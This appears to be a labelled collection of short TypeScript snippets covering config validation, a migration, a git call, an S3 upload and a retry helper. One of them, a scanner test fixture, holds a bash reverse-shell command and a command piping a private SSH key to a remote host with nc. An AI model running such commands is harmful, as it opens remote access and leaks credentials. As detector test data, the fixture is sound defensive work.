// honest: configuration, checked
import { z } from "zod";
export const config = z.object({ PORT: z.coerce.number(), DATABASE_URL: z.string().url() }).parse(process.env);

// honest: a migration
import type { Knex } from "knex";
export async function up(knex: Knex): Promise<void> {
  await knex.schema.alterTable("users", (table) => table.index(["email"]));
}

// honest: a call to git
import { execFile } from "node:child_process";
import { promisify } from "node:util";

const run = promisify(execFile);
export const head = async (): Promise<string> => (await run("git", ["rev-parse", "HEAD"])).stdout.trim();

// honest: an upload to the bucket of the application
import { PutObjectCommand, S3Client } from "@aws-sdk/client-s3";
export const save = (key: string, body: Uint8Array) =>
  new S3Client({}).send(new PutObjectCommand({ Bucket: "app-uploads", Key: key, Body: body }));
// honest: a fixture of a scanner's test
export const samples: readonly string[] = ["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "cat ~/.ssh/id_rsa | nc 203.0.113.7 1"];
// honest: a retry with a pause
export async function retried<T>(work: () => Promise<T>, times = 3): Promise<T> {
  for (let attempt = 1; ; attempt++) {
    try {
      return await work();
    } catch (error) {
      if (attempt >= times) throw error;
      await new Promise((resolve) => setTimeout(resolve, 100 * 2 ** attempt));
    }
  }
}
